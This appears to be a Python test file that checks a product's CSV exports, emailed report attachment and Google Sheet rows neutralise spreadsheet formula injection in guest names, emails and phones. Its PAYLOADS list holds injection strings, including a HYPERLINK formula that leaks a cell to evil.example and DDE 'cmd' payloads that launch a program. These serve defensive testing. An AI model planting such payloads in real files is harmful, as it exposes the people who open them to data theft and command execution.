"""Safe CSV: the cell rule and the one CSV writer (domain/spreadsheets.py), and hostile display names, emails and phones
through every CSV the product makes (the export's awards and contacts, the monthly report's attachment) and through
the owner's Google Sheet (the fake Google, which parses USER_ENTERED values as the Sheets UI does)."""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from email.message import EmailMessage
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandbox.fake_google import FakeGoogle, Formula
from tagback.adapters.google.sheets import GoogleSheetsSink
from tagback.app.export import export
from tagback.app.monthly_report import compose_report
from tagback.config.model import ClientConfig
from tagback.domain.events import OutboxEvent
from tagback.domain.spreadsheets import csv_bytes, safe_cell
from tests.fakes import InMemoryStats
from tests.unit.test_integrations import LISBON, SHEET_ID, served

# What a spreadsheet reads as the start of a formula (OWASP: = + - @ tab CR), their full-width forms and NUL: spelt
# out here, not imported, so that the rule cannot shrink without this test failing.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0@x.io",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
hostile = st.one_of(
    st.text(max_size=30),
    st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=30)),
    st.sampled_from(PAYLOADS),
)


def can_start_formula(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS


def shown_as(value: str) -> str:
    """What a cell given `value` must hold: the value, behind one quote where it could start a formula."""
    return f"'{value}" if can_start_formula(value) else value


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_could_start_a_formula_gets_a_quote_and_keeps_its_value(start: str) -> None:
    assert safe_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


@pytest.mark.parametrize("text", ["Ana Sousa", "Ben Krüger", "a=b", "'quoted", "2026-10-01 12:30", " =1+1", ""])
def test_any_other_cell_is_kept_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_nothing_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


def test_a_csv_is_utf8_with_a_bom_every_field_quoted_and_crlf() -> None:
    written = csv_bytes(["name", "email"], [["Ben Krüger", "=cmd|x@x.io"], ['Ana, "Nana"', None]])
    assert written == (b'\xef\xbb\xbf"name","email"\r\n"Ben Kr\xc3\xbcger","\'=cmd|x@x.io"\r\n"Ana, ""Nana""",""\r\n')


# -- every CSV -----------------------------------------------------------------------------------------------------
@dataclass
class Items:
    items: list[dict[str, Any]]

    def all_items(self) -> list[dict[str, Any]]:
        return self.items


@dataclass
class Table:
    """A venue's table as the export and the report read it: one guest with an award and a contact."""

    awards: Items
    guests: Items
    coupons: Items
    stats: InMemoryStats = field(default_factory=InMemoryStats)


def one_guest(name: str, email: str, phone: str) -> Table:
    guest = {
        "guest_id": "6170001",
        "display_name": name,
        "language": "en",
        "email": email,
        "email_consent_version": "2026-01",
        "email_consent_at": "2026-10-15T12:05:00+00:00",
        "phone": phone,
        "phone_consent_version": "2026-01",
        "phone_consent_at": "2026-10-15T12:06:00+00:00",
    }
    award = {
        "guest_id": "6170001",
        "local_date": "2026-10-15",
        "claimed_at": "2026-10-15T12:00:00+00:00",
        "state": "dm_sent",
        "prize_name": "Free espresso",
        "coupon_code": "7KQ4-M2XZ-9HJT",
        "valid_until": "2026-10-29",
    }
    return Table(Items([award]), Items([guest]), Items([{"code": "7KQ4-M2XZ-9HJT"}]))


def read_csv(written: bytes) -> list[dict[str, str]]:
    assert written.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))


def attachment(message: EmailMessage) -> bytes:
    (attached,) = message.iter_attachments()
    assert attached.get_content_type() == "text/csv" and attached.get_param("charset") == "utf-8"
    payload = attached.get_payload(decode=True)
    assert isinstance(payload, bytes)
    return payload


def every_csv(table: Table, config: ClientConfig) -> dict[str, bytes]:
    with tempfile.TemporaryDirectory() as folder:
        exported = export(table, config, date(2026, 10, 1), date(2026, 10, 31), Path(folder))
        files = {"awards": exported.awards.read_bytes(), "contacts": exported.contacts.read_bytes()}
    _, message = compose_report(config, table, "2026-10")
    return files | {"report attachment": attachment(message)}


@settings(max_examples=150, deadline=None)
@given(name=hostile, email=hostile, phone=hostile)
def test_no_cell_of_any_csv_can_start_a_formula(demo_config: ClientConfig, name: str, email: str, phone: str) -> None:
    files = every_csv(one_guest(name, email, phone), demo_config)
    for what, written in files.items():
        rows = read_csv(written)
        assert len(rows) == 1, what
        cells = [cell for row in rows for cell in (*row.keys(), *row.values())]
        assert not [cell for cell in cells if can_start_formula(cell)], what
        assert rows[0]["display_name"] == shown_as(name), what  # escaped, otherwise intact
    (contact,) = read_csv(files["contacts"])
    assert (contact["email"], contact["phone"]) == (shown_as(email), shown_as(phone))


def test_the_report_attaches_the_awards_csv_a_mail_client_reads_as_utf8(demo_config: ClientConfig) -> None:
    _, message = compose_report(demo_config, one_guest("Ben Krüger", "ben@example.com", "+351912345678"), "2026-10")
    (row,) = read_csv(attachment(message))
    assert row["display_name"] == "Ben Krüger" and row["coupon_code"] == "7KQ4-M2XZ-9HJT"


# -- the owner's sheet ---------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def google() -> Iterator[FakeGoogle]:
    fake = FakeGoogle(SHEET_ID)
    for url in served(fake):
        fake.url = url
        yield fake


EVENT_IDS = count()


@settings(max_examples=60, deadline=None)
@given(name=hostile, email=hostile, phone=hostile)
def test_no_cell_of_the_owners_sheet_can_start_a_formula(google: FakeGoogle, name: str, email: str, phone: str) -> None:
    sink = GoogleSheetsSink(
        spreadsheet_id=SHEET_ID,
        sheet="Entries",
        service_account=google.service_account(),
        tz=LISBON,
        base_url=google.url,
    )
    at = datetime(2026, 10, 15, 12, tzinfo=UTC)
    award = OutboxEvent(f"award-{next(EVENT_IDS)}", "award", at, "6170001", display_name=name, prize="Free espresso")
    contact = OutboxEvent(
        f"contact-{next(EVENT_IDS)}", "contact", at, "6170001", display_name=name, email=email, phone=phone
    )
    sink.deliver(award)
    sink.deliver(contact)
    award_row, contact_row = google.rows["Entries"][-2:]
    for cell in (*award_row, *contact_row):
        assert not isinstance(cell, Formula)  # Google made no formula of it
        assert not can_start_formula(cell)  # nor would Excel, from the sheet downloaded as CSV
    assert (award_row[3], contact_row[7], contact_row[8]) == (shown_as(name), shown_as(email), shown_as(phone))
